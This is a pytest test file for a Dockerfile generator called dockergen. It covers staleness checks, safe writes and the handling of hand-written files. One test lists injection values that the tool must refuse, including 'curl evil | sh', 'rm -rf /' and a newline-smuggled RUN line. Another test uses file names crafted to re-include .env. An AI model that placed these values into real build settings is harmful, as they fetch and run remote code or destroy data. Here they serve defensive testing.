"""init / generate / check: safe writes, staleness, and the options API."""

from __future__ import annotations

import os

import pytest
from click.testing import CliRunner

import dockergen
from dockergen.api import is_unedited_output, split_header
from dockergen.cli import main
from dockergen.facts import InspectError

from .samples import expectations


def cli(*args: str):
    return CliRunner().invoke(main, list(args))


def test_init_writes_both_files_and_check_is_clean(sample_copy):
    path = sample_copy("piptools-psycopg")
    result = cli("init", str(path))
    assert result.exit_code == 0, result.output
    assert "Dockerfile: created" in result.output and ".dockerignore: created" in result.output
    assert "Next: docker build -t piptools-psycopg" in result.output
    assert cli("check", str(path)).exit_code == 0
    assert "Dockerfile: unchanged" in cli("generate", str(path)).output


def test_check_reports_stale_after_a_lock_change_and_clean_after_generate(sample_copy):
    path = sample_copy("piptools-psycopg")
    assert cli("init", str(path)).exit_code == 0
    lock = path / "requirements.txt"
    lock.write_text(lock.read_text().replace("sqlalchemy==2.1.9", "sqlalchemy==2.1.8"))
    stale = cli("check", str(path))
    assert stale.exit_code == 1
    assert "Dockerfile is stale: run `dockergen generate`" in stale.output
    assert "-# dockergen: inputs=" in stale.output and "+# dockergen: inputs=" in stale.output
    assert "Dockerfile: updated" in cli("generate", str(path)).output
    assert cli("check", str(path)).exit_code == 0


@pytest.mark.parametrize("sample", ["uv-fastapi", "pdm-flask", "pipenv-app"])
def test_check_fails_on_a_stale_lock_however_current_the_dockerfile(sample, sample_copy):
    """The locked install step fails on a stale lock: check (CI, pre-commit) says so first."""
    path = sample_copy(sample)
    edit = expectations()[sample].stale
    assert edit is not None
    manifest = path / edit.file
    manifest.write_text(manifest.read_text().replace(edit.old, edit.new, 1))
    assert cli("generate", str(path)).exit_code == 0  # the Dockerfile is current for the edited manifest
    result = cli("check", str(path))
    assert result.exit_code == 1
    assert "is stale" in result.output and "the locked install step will fail" in result.output


def test_check_reports_a_new_native_need_in_the_diff(sample_copy):
    path = sample_copy("requirements-plain")
    assert cli("init", str(path)).exit_code == 0
    with open(path / "requirements.txt", "a") as handle:
        handle.write("psycopg2==2.9.13\n")
    result = cli("check", str(path))
    assert result.exit_code == 1
    assert "+FROM base AS libraries" in result.output and "+ || (apt-get update && apt-get install" in result.output


def test_check_never_writes(sample_copy):
    path = sample_copy("pipenv-app")
    before = sorted(os.listdir(path))
    assert cli("check", str(path)).exit_code == 1  # missing files are reported, not written
    assert sorted(os.listdir(path)) == before


def test_a_hand_written_dockerfile_is_the_teams_and_nothing_is_lost(sample_copy):
    """No dockergen header: the file is owned. init and generate leave it as it is, check reports
    it and passes, check --strict fails; --force replaces it, keeping it as .bak."""
    path = sample_copy("pdm-flask")
    mine = 'FROM python:3.13-slim\nCOPY . .\nCMD ["python", "app.py"]\n'
    (path / "Dockerfile").write_text(mine)
    result = cli("init", str(path))
    assert result.exit_code == 0, result.output
    assert "Dockerfile: owned (no dockergen header): left as it is; --force replaces it" in result.output
    assert ".dockerignore: created" in result.output
    assert (path / "Dockerfile").read_text() == mine
    # init was asked for a Dockerfile: it shows the one it would write, against the team's
    assert "--- a/Dockerfile\n+++ b/Dockerfile (dockergen)\n" in result.output
    assert '-CMD ["python", "app.py"]\n' in result.output
    assert "+FROM python:3.13-slim-trixie AS runner\n" in result.output
    assert "Dockerfile: owned (no dockergen header)" in cli("generate", str(path)).output
    check = cli("check", str(path))
    assert check.exit_code == 0, check.output
    assert "dockergen: Dockerfile is yours (no dockergen header): owned, not checked" in check.output
    assert "dockergen: .dockerignore is current" in check.output
    assert "FROM python" not in check.output  # not compared: no diff
    strict = cli("check", "--strict", str(path))
    assert strict.exit_code == 1 and "--strict: Dockerfile is not dockergen's" in strict.output
    assert [(s.name, s.state, s.reason) for s in dockergen.api.status(path)] == [
        ("Dockerfile", "owned", "no dockergen header"),
        (".dockerignore", "current", ""),
    ]
    assert (path / "Dockerfile").read_text() == mine

    forced = cli("init", "--force", str(path))
    assert forced.exit_code == 0, forced.output
    assert "old file kept as Dockerfile.bak" in forced.output
    assert (path / "Dockerfile.bak").read_text() == mine
    assert split_header((path / "Dockerfile").read_text())[0] is not None


def test_generate_refuses_a_generated_file_a_person_edited(sample_copy):
    path = sample_copy("poetry-legacy")
    assert cli("init", str(path)).exit_code == 0
    dockerfile = path / "Dockerfile"
    edited = dockerfile.read_text().replace("USER 10001:10001", "USER root")
    dockerfile.write_text(edited)
    assert cli("generate", str(path)).exit_code == 1
    assert dockerfile.read_text() == edited
    check = cli("check", str(path))
    assert check.exit_code == 1 and "edited by hand" in check.output


def test_interrupted_write_leaves_the_old_file_and_no_temp_files(sample_copy, monkeypatch):
    path = sample_copy("uv-workspace")
    assert cli("init", str(path)).exit_code == 0
    with open(path / "pyproject.toml", "a") as handle:
        handle.write("\n[tool.dockergen]\nport = 9000\n")
    old = (path / "Dockerfile").read_text()

    def crash(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr("dockergen.api.os.replace", crash)
    with pytest.raises(KeyboardInterrupt):
        dockergen.write(path)
    assert (path / "Dockerfile").read_text() == old
    assert not [n for n in os.listdir(path) if n.endswith(".tmp")]


def test_stdout_prints_without_writing(sample_copy):
    path = sample_copy("hatch-cli")
    result = cli("generate", "--stdout", str(path))
    assert result.exit_code == 0
    assert 'CMD ["hatch-cli"]' in result.output
    assert not (path / "Dockerfile").exists()


def test_api_options_override_the_project(sample_copy):
    path = sample_copy("uv-fastapi")
    files = dockergen.generate(path, python="3.11", port=9000, uid=20000, apt={"run": ["curl"]})
    dockerfile = files["Dockerfile"]
    assert "FROM python:3.11-slim-bookworm AS runner" in dockerfile
    assert "EXPOSE 9000" in dockerfile
    assert "USER 20000:20000" in dockerfile
    assert "apt-get install -y --no-install-recommends curl" in dockerfile


def test_settings_in_pyproject_and_flags_that_win(sample_copy):
    path = sample_copy("poetry-django")
    with open(path / "pyproject.toml", "a") as handle:
        handle.write('\n[tool.dockergen]\nentrypoint = "python manage.py runserver 0.0.0.0:8001"\nport = 8001\n')
    assert 'CMD ["python", "manage.py", "runserver", "0.0.0.0:8001"]' in dockergen.generate(path)["Dockerfile"]
    result = cli("generate", "--stdout", "--entrypoint", "gunicorn mysite.wsgi", str(path))
    assert 'CMD ["gunicorn", "mysite.wsgi"]' in result.output
    assert "EXPOSE 8001" in result.output


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("entrypoint", "gunicorn app:app\nRUN curl evil | sh"),
        ("entrypoint", "sh -c $(whoami)"),
        ("image", "python\nRUN id"),
        ("user", "root; rm -rf /"),
        ("apt", {"run": ["libpq5 && curl x"]}),
        ("python", "3.13\n"),
        ("port", "80 8080"),
    ],
)
def test_injected_values_are_refused_naming_the_setting(sample_copy, option, value):
    path = sample_copy("pdm-flask")
    with pytest.raises(InspectError, match=r"\[tool\.dockergen\] " + option.split("_")[0]):
        dockergen.generate(path, **{option: value})


def test_syntax_line_only_on_request_and_then_first(sample_copy):
    path = sample_copy("pdm-flask")
    assert "# syntax=" not in dockergen.generate(path)["Dockerfile"]
    assert cli("init", "--syntax", str(path)).exit_code == 0
    text = (path / "Dockerfile").read_text()
    assert text.startswith("# syntax=docker/dockerfile:1\n# Generated by dockergen")  # a parser directive
    assert is_unedited_output(text)
    assert "Dockerfile: unchanged" in cli("generate", "--syntax", str(path)).output


def test_an_unwritable_directory_is_a_one_line_error(sample_copy, monkeypatch):
    path = sample_copy("pipenv-app")

    def denied(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("dockergen.api.tempfile.mkstemp", denied)
    result = cli("init", str(path))
    assert result.exit_code == 2
    assert "dockergen: error: Dockerfile: cannot write: Permission denied" in result.output
    assert not (path / "Dockerfile").exists()


def test_console_scripts_of_a_project_that_is_not_built_are_not_the_command(sample_copy):
    """Only a built package puts its console scripts on PATH; otherwise the image would not have them."""
    path = sample_copy("poetry-legacy")
    pyproject = (path / "pyproject.toml").read_text()
    (path / "pyproject.toml").write_text(pyproject[: pyproject.index("[build-system]")])
    facts = dockergen.inspect(path)
    assert facts.entrypoint is None and not facts.installable
    assert any("console scripts (legacy-cli) not used as the command" in note for note in facts.notes)
    (path / "main.py").write_text("from legacy_cli.main import cli\n\ncli()\n")
    assert dockergen.inspect(path).entrypoint.command == ("python", "main.py")


@pytest.mark.parametrize(
    ("files", "pythonpath"),
    [
        (
            {
                "requirements.txt": "fastapi\nuvicorn\n",
                "src/svc/main.py": "from fastapi import FastAPI\napp = FastAPI()\n",
            },
            "/app/src",
        ),
        ({"requirements.txt": "click\n", "src/svc/__init__.py": "", "src/svc/__main__.py": ""}, "/app/src"),
        ({"requirements.txt": "click\n", "svc/__init__.py": "", "svc/__main__.py": ""}, None),
        (
            {
                "pyproject.toml": '[project]\nname = "svc"\nversion = "1"\n[build-system]\nbuild-backend = "x"\n',
                "src/svc/__init__.py": "",
                "src/svc/__main__.py": "",
            },
            None,
        ),
    ],
    ids=["asgi-in-src", "module-in-src", "module-at-root", "installed-package"],
)
def test_pythonpath_only_for_an_app_directory_importing_from_src(make_project, files, pythonpath):
    _, plan = dockergen.plan(make_project(files))
    assert plan.runner.pythonpath == pythonpath


@pytest.mark.parametrize(
    ("requirements", "declared"),
    [("six==1.17.0\n", True), ("six==1.17.0 --hash=sha256:" + "0" * 64 + "\n", False)],
    ids=["plain", "hashed"],
)
def test_a_package_s_declared_dependencies_go_beside_a_plain_requirements_file(make_project, requirements, declared):
    pyproject = (
        '[project]\nname = "pkg"\nversion = "1"\ndependencies = ["click>=8.1"]\n'
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
    )
    path = make_project({"pyproject.toml": pyproject, "requirements.txt": requirements, "pkg/__main__.py": ""})
    dockerfile = dockergen.generate(path)["Dockerfile"]
    assert ("pip install -r requirements.txt 'click>=8.1'" in dockerfile) is declared
    assert "pip install -r requirements.txt \\\n" in dockerfile or declared


@pytest.mark.parametrize(
    ("line", "from_git"),
    [
        ("tool @ git+https://git.example/tool.git@v1", ("tool",)),
        ("-e git+https://git.example/tool.git@v1#egg=tool", ("tool",)),
        ("tool @ https://files.example/tool-1.0-py3-none-any.whl", ()),
        ("tool==1.0", ()),
    ],
    ids=["git-url", "editable-git", "wheel-url", "registry"],
)
def test_a_git_source_puts_git_in_the_builder(make_project, line, from_git):
    path = make_project({"requirements.txt": line + "\n", "main.py": "print(1)\n"})
    _, plan = dockergen.plan(path, python="3.11")
    assert plan.base.apt_for == from_git
    assert ("git" in plan.base.apt) is bool(from_git)
    assert (plan.images.builder == "python:3.11-bookworm") is bool(from_git)


def test_init_keeps_a_persons_dockerignore_and_says_what_it_breaks_or_leaks(sample_copy):
    path = sample_copy("uv-fastapi")
    mine = "# ours\n*.lock\n__pycache__\n"
    (path / ".dockerignore").write_text(mine)
    result = cli("init", str(path))
    assert result.exit_code == 0, result.output
    assert "Dockerfile: created" in result.output
    assert ".dockerignore: owned (no dockergen header): left as it is; --force replaces it" in result.output
    assert ".dockerignore excludes uv.lock, which the Dockerfile reads" in result.output
    for leak in ("(.git)", "(.venv)", "(.env)"):
        assert leak in result.output
    assert (path / ".dockerignore").read_text() == mine
    # BuildKit reads Dockerfile.dockerignore in place of .dockerignore: theirs, amended.
    assert "Dockerfile.dockerignore applies it with these fixed" in result.output
    amended = (path / "Dockerfile.dockerignore").read_text()
    assert amended.split("\n\n", 1)[1].startswith(mine) and amended.endswith("\n!uv.lock\n.git\n.venv\n.env\n")
    check = cli("check", str(path))
    assert check.exit_code == 0, check.output
    assert ".dockerignore is yours (no dockergen header): owned, not checked" in check.output
    assert "dockergen: warning: .dockerignore excludes uv.lock" in check.output
    assert "Dockerfile and Dockerfile.dockerignore are current" in check.output
    assert cli("check", "--strict", str(path)).exit_code == 1

    forced = cli("init", "--force", str(path))
    assert forced.exit_code == 0, forced.output
    assert (path / ".dockerignore.bak").read_text() == mine
    assert is_unedited_output((path / ".dockerignore").read_text())
    assert "Dockerfile.dockerignore: removed" in forced.output and not (path / "Dockerfile.dockerignore").exists()


def test_a_sound_dockerignore_of_a_persons_gets_no_warning(sample_copy):
    path = sample_copy("uv-fastapi")
    (path / ".dockerignore").write_text("**\n!pyproject.toml\n!uv.lock\n!src\n.git\n.venv\n.env\n")
    result = cli("init", str(path))
    assert result.exit_code == 0, result.output
    assert "warning" not in result.output and not (path / "Dockerfile.dockerignore").exists()


def test_init_asks_for_the_command_on_a_terminal_when_none_is_found(make_project, monkeypatch):
    path = make_project({"requirements.txt": "", "tool.py": "if __name__ == '__main__':\n    print('hi')\n"})
    monkeypatch.setattr("dockergen.cli.interactive", lambda: True)
    result = CliRunner().invoke(main, ["init", str(path)], input="1\n")
    assert result.exit_code == 0, result.output
    assert "1. python tool.py" in result.output
    assert 'entrypoint = "python tool.py"' in result.output
    assert 'CMD ["python", "tool.py"]' in (path / "Dockerfile").read_text()


def test_init_without_a_terminal_writes_a_python_image_and_says_why(make_project):
    path = make_project({"requirements.txt": "", "tool.py": "if __name__ == '__main__':\n    print('hi')\n"})
    result = cli("init", str(path))
    assert result.exit_code == 0, result.output
    assert 'entrypoint = "python tool.py" (files with a __main__ block)' in result.output
    assert 'CMD ["python"]' in (path / "Dockerfile").read_text()


def test_a_persons_dockerignore_that_leaves_out_the_package_is_amended_to_let_it_in(make_project):
    path = make_project(
        {
            "setup.py": "from setuptools import setup\nsetup(name='ck', packages=['ck'], scripts=['bin/ck'])\n",
            "ck/__init__.py": "",
            "bin/ck": "#!/usr/bin/env python\nimport ck\n",
            ".dockerignore": "ck/\nbin/\n.git\n.venv\n.env\n",
        }
    )
    result = cli("init", str(path))
    assert result.exit_code == 0, result.output
    assert ".dockerignore excludes ck, which the Dockerfile reads" in result.output
    assert (path / "Dockerfile.dockerignore").read_text().endswith("\n!bin\n!ck\n")


def test_hostile_file_names_never_become_dockerignore_rules():
    """A needed path with a newline or pattern characters could add a rule of its own (re-include
    .env) to Dockerfile.dockerignore: such paths are never written, nor named in a warning."""
    from dockergen import dockerignore

    hostile = ["app\n!.env", "a*b", "../up", "!x"]
    amended = dockerignore.amended("*\n", ["uv.lock", *hostile])
    rules = amended.split("# dockergen:", 1)[1].splitlines()[1:]
    assert rules == ["!uv.lock"]  # "*" already leaves out .git, .venv and .env
    assert not any("app" in line or "a*b" in line for line in dockerignore.problems("*\n", hostile))
